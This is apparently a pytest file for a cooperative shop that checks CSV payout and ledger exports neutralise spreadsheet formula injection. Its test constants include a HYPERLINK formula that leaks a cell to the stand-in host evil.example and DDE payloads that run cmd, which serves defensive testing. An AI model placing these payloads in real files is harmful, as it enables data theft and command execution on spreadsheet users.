"""The files operators and county offices open in a spreadsheet carry no live formula (issue #12, part 4):
a cooperative that names its payout account `=HYPERLINK(...)` gets a harmless text cell in the bank file,
while amounts, negative ones too, stay numbers."""

from __future__ import annotations

import csv
import io

from sqlalchemy import update

from shop.accounts.roles import Role
from shop.cooperatives.models import Cooperative
from shop.extensions import db
from shop.households.models import Household
from shop.orders.models import OrderLine
from tests.conftest import login

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击领取补贴")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
FULL_WIDTH = "＝1+1"
TAB = "\t=1+1"
PLUS = "+cmd|' /C calc'!A0"
MINUS = "-2+3"


def read_csv(response) -> list[list[str]]:
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"), newline="")))


def assert_no_cell_is_a_formula(rows: list[list[str]]) -> None:
    triggers = ("=", "+", "@", "\t", "\r", "＝", "＋", "－", "＠")
    for row in rows:
        for cell in row:
            assert not cell.startswith(triggers), (cell, row)
            assert not cell.startswith("-") or is_number(cell), (cell, row)


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def hostile_world(app, world) -> tuple[int, int]:
    """A settled sale whose cooperative and household carry formulas in every name that reaches a file."""
    household = world.household()
    order = world.buy((world.product("香菇", 5000), 2))
    world.deliver(order)
    with app.app_context():
        db.session.execute(
            update(Cooperative)
            .where(Cooperative.id == world.coop)
            .values(payout_account_name=HYPERLINK, payout_bank_name=TAB)
        )
        db.session.execute(
            update(Household)
            .where(Household.id == household)
            .values(payout_account_name=DDE, payout_bank_name=FULL_WIDTH)
        )
        # Names copied at checkout, as an older order (before any input rule) may hold them.
        db.session.execute(
            update(OrderLine).where(OrderLine.order_id == order["id"]).values(product_name=PLUS, cooperative_name=MINUS)
        )
        db.session.commit()
    world.settle()
    return household, order["id"]


def test_the_bank_file_neutralises_account_and_bank_names_and_keeps_amounts_numbers(app, client, world):
    hostile_world(app, world)
    batch = client.post(
        "/api/v1/payouts/batches",
        json={"period_start": "2026-11-01", "period_end": "2026-11-30"},
        headers=world.operator,
    )
    assert batch.status_code == 201, batch.json
    rows = read_csv(client.get(f"/api/v1/payouts/batches/{batch.json['id']}.csv", headers=world.operator))
    assert_no_cell_is_a_formula(rows)
    names = {row[1]: (row[3], row[4]) for row in rows[1:]}
    assert names == {"'" + HYPERLINK: ("'" + TAB, "100.00"), "'" + DDE: ("'" + FULL_WIDTH, "10.00")}


def test_the_operators_page_serves_the_same_neutralised_bank_file(app, client, make, world):
    hostile_world(app, world)
    batch = client.post(
        "/api/v1/payouts/batches",
        json={"period_start": "2026-11-01", "period_end": "2026-11-30"},
        headers=world.operator,
    )
    assert batch.status_code == 201, batch.json
    make.user(Role.OPERATOR, email="ops@example.com")
    operator = app.test_client()
    login(operator, "ops@example.com")
    rows = read_csv(operator.get(f"/ops/payouts/{batch.json['id']}.csv"))
    assert_no_cell_is_a_formula(rows)
    assert {row[1] for row in rows[1:]} == {"'" + HYPERLINK, "'" + DDE}


def test_the_household_ledger_csv_neutralises_names_and_keeps_the_payout_a_negative_number(app, client, make, world):
    household, order_id = hostile_world(app, world)
    paid = client.post(
        "/api/v1/payouts/batches",
        json={"period_start": "2026-11-01", "period_end": "2026-11-30"},
        headers=world.operator,
    )
    assert paid.status_code == 201, paid.json
    make.user(Role.OPERATOR, email="ledger-reader@example.com")
    reader = app.test_client()
    login(reader, "ledger-reader@example.com")
    rows = read_csv(reader.get(f"/households/{household}/ledger.csv", headers={"Accept-Language": "en"}))
    assert_no_cell_is_a_formula(rows)
    (settled,) = [row for row in rows[1:] if row[2]]  # the sale names its order; the payout does not
    (payout,) = [row for row in rows[1:] if not row[2]]
    assert settled[2:5] == [f"FO{order_id:08d}", "'" + PLUS, "'" + MINUS]
    assert settled[-1] == "10.00"
    assert payout[-1] == "-10.00"  # a number a spreadsheet adds up, not the text "'-10.00"
